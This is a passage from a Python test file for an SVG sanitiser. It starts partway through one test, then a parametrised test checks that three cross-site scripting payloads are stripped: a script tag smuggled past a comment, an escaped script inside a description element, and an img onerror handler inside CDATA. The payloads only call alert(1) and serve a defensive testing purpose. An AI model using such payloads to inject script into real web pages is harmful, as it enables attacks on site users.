    with pytest.raises(sanitise.Unwanted):
        sanitise.clean_svg(text)


@pytest.mark.parametrize("inside", ["<!--><script>alert(1)</script>-->", "<desc>&lt;script>alert(1)&lt;/script></desc>", "<text><![CDATA[<img src=x onerror=alert(1)>]]></text>"])
def test_a_figure_is_as_harmless_inside_html(inside):
    cleaned = sanitise.clean_svg(f"<svg xmlns='http://www.w3.org/2000/svg'><g>{inside}</g></svg>")
    assert [part for part in active(cleaned) if part != "svg"] == []
